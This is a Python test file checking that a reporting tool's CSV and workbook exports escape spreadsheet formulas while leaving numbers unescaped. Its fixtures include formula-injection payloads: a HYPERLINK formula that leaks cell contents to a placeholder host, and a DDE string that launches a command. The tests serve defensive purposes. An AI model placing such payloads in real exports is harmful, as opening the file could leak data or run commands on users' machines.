"""CSV exports escape text a spreadsheet would run as a formula, by the same
rule as the workbooks, and leave numbers (negative amounts too) as numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pyarrow.parquet as pq
import pytest
from openpyxl import Workbook

from totalplace.count.place_count import CountLine, PlaceCount
from totalplace.orgs.registry import org_registry
from totalplace.reference.places import Place
from totalplace.report.export import write_exports
from totalplace.sheets import append_row, safe_text

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Northmoor Trust")'


def _line(agency: str, pence: int, source: str = "rows") -> CountLine:
    return CountLine(
        agency=agency,
        agency_type="NHS",
        funder="",
        theme="health",
        function="07",
        tier="universal",
        capital_revenue="revenue",
        method="transactions",
        part="bottom_up",
        gross_net="net",
        grade="A",
        pence=pence,
        source=source,
    )


def _count(lines: list[CountLine]) -> PlaceCount:
    place = Place("E08000025", "Birmingham", ("E08000025",), ("E08000025",))
    return PlaceCount(place, "2010-11", "duckdb", 1_000_000, lines=lines)


def _registry_name(tmp_path: Path) -> str:
    """An organisation's name as a user's orgs/*.csv gives it."""
    orgs = tmp_path / "orgs"
    orgs.mkdir()
    (orgs / "local.csv").write_text(
        "id,name,kind\n" + 'trust-x,"' + FORMULA.replace('"', '""') + '",nhs_provider\n',
        encoding="utf-8",
    )
    return org_registry(orgs).get("trust-x").name


def test_formula_in_an_organisation_name_is_escaped_in_lines_csv(tmp_path: Path) -> None:
    name = _registry_name(tmp_path)
    assert name == FORMULA
    count = _count(
        [
            _line(name, -123456, source="+cmd|' /C calc'!A0"),
            _line("@SUM(A1:A9)", 500),
            _line("\tTabbed Trust", 700),
            _line("Plain Trust", 9900),
        ]
    )
    write_exports(tmp_path / "out", count)
    with (tmp_path / "out" / "lines.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["agency"] for r in rows] == [
        "'" + FORMULA,
        "'@SUM(A1:A9)",
        "'\tTabbed Trust",
        "Plain Trust",
    ]
    assert rows[0]["source"] == "'+cmd|' /C calc'!A0"
    # numbers stay numbers: a negative amount is not escaped
    assert [(r["amount_pence"], r["amount"]) for r in rows] == [
        ("-123456", "-1234.56"),
        ("500", "5.00"),
        ("700", "7.00"),
        ("9900", "99.00"),
    ]
    # the Parquet copy keeps the names exactly as counted
    assert pq.read_table(tmp_path / "out" / "lines.parquet").column("agency")[0].as_py() == name


@pytest.mark.parametrize("text", [FORMULA, "+1", "-x", "@a", "\tt", "\rr", "plain", "a=b"])
def test_csv_and_workbook_escape_text_the_same_way(tmp_path: Path, text: str) -> None:
    write_exports(tmp_path / "out", _count([_line(text, 100)]))
    with (tmp_path / "out" / "lines.csv").open(encoding="utf-8", newline="") as fh:
        [row] = list(csv.DictReader(fh))
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    append_row(ws, [text])
    wb.save(tmp_path / "book.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "book.xlsx").active["A1"].value  # type: ignore[index]
    assert row["agency"] == safe_text(text)
    assert row["agency"].replace("\r", "\n") == cell  # the workbook's XML reads CR as LF
